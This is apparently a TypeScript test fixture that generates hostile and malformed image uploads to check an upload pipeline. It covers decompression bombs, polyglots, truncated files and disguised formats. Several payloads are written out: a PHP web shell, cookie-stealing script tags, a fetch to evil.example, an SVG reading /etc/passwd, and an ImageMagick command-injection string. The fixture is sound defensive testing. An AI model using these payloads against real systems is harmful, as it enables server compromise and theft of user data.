import { gzipSync } from 'node:zlib'
import { seeded } from '../../../tests/hostile/hostile.ts'
import { anM4a, box } from '../clips/sounds.fixture.ts'
import { ordinaryPictures, scene } from './pictures.fixture.ts'
import { aPng, packedProfile, packedText, pngChunk } from './png.fixture.ts'
import {
  manyScans,
  noise,
  resizedAvif,
  resizedGif,
  resizedJpeg,
  resizedWebp,
  withJpegComment,
  withPngChunk,
} from './tampered.fixture.ts'

export interface HostileUpload {
  readonly name: string
  readonly bytes: Buffer
  /** The content type that the header claims. */
  readonly type: string
  /** Whether a clean picture is made from it, or it is refused. */
  readonly expect: 'picture' | 'refused' | 'either'
}

const script = Buffer.from('<script>alert(document.cookie)</script>')
const html = Buffer.from('<!doctype html><html><body><script>fetch("//evil.example")</script></body></html>')
const php = Buffer.from('<?php system($_GET["c"]); ?>')
const zip = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\0\0\0', 'latin1'),
  Buffer.alloc(60, 'z'),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
])

/** More than a hundred uploads from attackers or broken programs. */
export async function hostileUploads(): Promise<HostileUpload[]> {
  const good = await ordinaryPictures()
  const all: HostileUpload[] = []
  const add = (expect: HostileUpload['expect'], name: string, bytes: Buffer, type = 'image/jpeg') =>
    void all.push({ expect, name, bytes, type })

  // Decompression bombs: small files that unpack to a lot of data.
  for (const side of [7_000, 30_000, 65_535, 1_000_000, 0x7fffffff])
    add(
      'refused',
      `a PNG of ${side} pixels a side`,
      aPng({ width: side, height: side, pixels: Buffer.alloc(100_000) }),
      'image/png',
    )
  for (const [width, height] of [
    [1, 60_000_000],
    [60_000_000, 1],
    [0, 0],
  ] as const)
    add('refused', `a PNG of ${width} by ${height}`, aPng({ width, height }), 'image/png')
  for (const side of [9_000, 40_000, 65_535])
    add('refused', `a GIF of ${side} pixels a side`, resizedGif(good.gif, side), 'image/gif')
  for (const side of [8_000, 16_383])
    add('refused', `a WebP of ${side} pixels a side`, resizedWebp(good.webp, side), 'image/webp')
  for (const side of [4_100, 60_000])
    add('refused', `an AVIF of ${side} pixels a side`, resizedAvif(good.avif, side), 'image/avif')
  for (const side of [8_000, 65_535])
    add('refused', `a JPEG of ${side} pixels a side`, resizedJpeg(good.jpeg, side))
  add(
    'either',
    'a PNG with 40 MB of packed text',
    aPng({ width: 1, height: 1, extra: [packedText(40e6)] }),
    'image/png',
  )
  add('either', 'a PNG with a colour profile of 40 MB', aPng({ extra: [packedProfile(40e6)] }), 'image/png')
  const notes = Array.from({ length: 20_000 }, (_, i) => pngChunk('tEXt', Buffer.from(`k${i}\0v`, 'latin1')))
  add('either', 'a PNG with 20,000 notes', aPng({ extra: notes }), 'image/png')
  add('refused', 'a JPEG of 3,000 scans', manyScans(good.progressive, 3_000))
  add('refused', 'gzip of zeros', gzipSync(Buffer.alloc(30e6)), 'image/png')
  add('either', 'a PNG one pixel wide and 60,000 high', await scene(1, 60_000).png().toBuffer(), 'image/png')
  add('either', 'a JPEG one pixel high and 60,000 wide', await scene(60_000, 1).jpeg().toBuffer())

  // Files that are two formats at once.
  add('picture', 'JPEG and ZIP', Buffer.concat([good.jpeg, zip]), 'application/zip')
  add('picture', 'PNG and HTML', Buffer.concat([good.png, html]), 'text/html')
  add('picture', 'WebP and PHP', Buffer.concat([good.webp, php]), 'application/x-php')
  add('picture', 'GIF and script', Buffer.concat([good.gif, script]), 'text/javascript')
  add(
    'either',
    'GIF that is JavaScript',
    Buffer.concat([Buffer.from('GIF89a/*', 'latin1'), good.gif.subarray(8), Buffer.from('*/=1;alert(1)')]),
    'text/javascript',
  )
  add(
    'refused',
    'JavaScript that begins as a GIF',
    Buffer.from('GIF89a=1;alert(document.domain)'),
    'image/gif',
  )
  add('picture', 'JPEG with HTML in a comment', withJpegComment(good.jpeg, html))
  add(
    'picture',
    'PNG with a script in a note',
    withPngChunk(good.png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), script])),
    'image/png',
  )
  add('picture', 'PNG with an unknown chunk', withPngChunk(good.png, 'hIDE', zip), 'image/png')
  add('picture', 'JPEG with XMP that holds a script', good.xmp)
  add('picture', 'JPEG with another JPEG behind it', Buffer.concat([good.jpeg, good.xmp]))
  add('picture', 'JPEG with 2 MB of zeros behind it', Buffer.concat([good.jpeg, Buffer.alloc(2e6)]))
  add('picture', 'PNG with 2 MB of noise behind it', Buffer.concat([good.png, noise(2e6)]), 'image/png')

  // Files cut off at many places.
  for (const part of [1, 2, 5, 10, 20, 35, 50, 65, 80, 90]) {
    const cut = (file: Buffer) => file.subarray(0, Math.floor((file.length * part) / 100))
    add('refused', `JPEG cut at ${part} %`, cut(good.jpeg))
    add('refused', `PNG cut at ${part} %`, cut(good.png), 'image/png')
    add('refused', `WebP cut at ${part} %`, cut(good.webp), 'image/webp')
  }
  for (const part of [10, 50, 95]) {
    add(
      'refused',
      `AVIF cut at ${part} %`,
      good.avif.subarray(0, Math.floor((good.avif.length * part) / 100)),
      'image/avif',
    )
    add(
      'either',
      `progressive JPEG cut at ${part} %`,
      good.progressive.subarray(0, Math.floor((good.progressive.length * part) / 100)),
    )
  }
  for (const length of [1, 2, 3, 4, 8, 12, 16, 33])
    add('refused', `the first ${length} bytes of a PNG`, good.png.subarray(0, length), 'image/png')

  // Files with random bytes changed.
  const random = seeded('damage')
  for (const kind of ['jpeg', 'png', 'webp', 'avif', 'animatedGif'] as const)
    for (let n = 0; n < 3; n++) {
      const broken = Buffer.from(good[kind])
      for (let hit = 0; hit < 12; hit++) broken[16 + random(broken.length - 16)] = random(256)
      add('either', `${kind} damaged in twelve places, ${n}`, broken)
    }

  // Files of another kind, under the name of a picture.
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>'
  add('refused', 'SVG with a script', Buffer.from(svg), 'image/svg+xml')
  add('refused', 'SVG called PNG', Buffer.from(`<?xml version="1.0"?>${svg}`), 'image/png')
  add('refused', 'HTML called PNG', html, 'image/png')
  add('refused', 'PHP called JPEG', php, 'image/jpeg')
  add('refused', 'a ZIP called WebP', zip, 'image/webp')
  add('refused', 'PDF', Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'), 'image/jpeg')
  add('refused', 'PostScript', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(x) run'), 'image/png')
  add(
    'refused',
    'ImageMagick vector',
    Buffer.from('push graphic-context\nfill \'url(https://evil.example/"|id")\''),
    'image/png',
  )
  add('refused', 'TIFF', good.tiff, 'image/tiff')
  add('refused', 'a film', anM4a({ brand: 'mp42', tracks: ['vide'] }), 'image/avif')
  add(
    'refused',
    'HEIC',
    Buffer.concat([box('ftyp', 'heic', Buffer.alloc(4), 'mif1heic'), Buffer.alloc(500)]),
    'image/avif',
  )
  add(
    'refused',
    'noise with an AVIF header',
    Buffer.concat([box('ftyp', 'avif', Buffer.alloc(4)), noise(800)]),
    'image/avif',
  )
  add('refused', 'a RIFF of sound', Buffer.from('RIFF\x24\0\0\0WAVEfmt '), 'image/webp')
  add(
    'refused',
    'a PNG signature and noise',
    Buffer.concat([good.png.subarray(0, 8), noise(4000)]),
    'image/png',
  )
  add('refused', 'a JPEG signature and noise', Buffer.concat([Buffer.from('ffd8ff', 'hex'), noise(4000)]))
  add('refused', 'JSON', Buffer.from('{"image":"x"}'), 'application/json')
  add(
    'refused',
    'a form with a picture in it',
    Buffer.concat([Buffer.from('--x\r\nContent-Type: image/png\r\n\r\n'), good.png]),
    'multipart/form-data; boundary=x',
  )
  add('refused', 'no bytes at all', Buffer.alloc(0), 'image/png')
  for (const length of [1, 100, 5_000, 500_000])
    add('refused', `noise of ${length} bytes`, noise(length), 'image/png')

  // Unusual files that are pictures all the same.
  add('picture', 'JPEG with GPS data, called text', good.jpeg, 'text/plain')
  add('picture', 'PNG with GPS data', good.png, 'image/svg+xml')
  add('picture', 'WebP with GPS data', good.webp, 'application/octet-stream')
  add('picture', 'AVIF with GPS data', good.avif, 'image/avif')
  for (const [i, bytes] of good.turned.entries())
    add('picture', `JPEG with GPS data, orientation ${i + 2}`, bytes)
  add('picture', 'animated GIF', good.animatedGif, 'image/gif')
  add('picture', 'animated WebP', good.animatedWebp, 'image/webp')
  add('picture', 'PNG of 16 bits', good.deep, 'image/png')
  add('picture', 'interlaced PNG', good.interlaced, 'image/png')
  add('picture', 'PNG in grey', good.grey, 'image/png')
  add('picture', 'transparent PNG', good.clear, 'image/png')
  add('picture', 'JPEG in CMYK', good.cmyk)
  add('picture', 'JPEG with a wide colour profile', good.wide)
  add('picture', 'PNG of one pixel', aPng(), 'image/png')
  return all
}
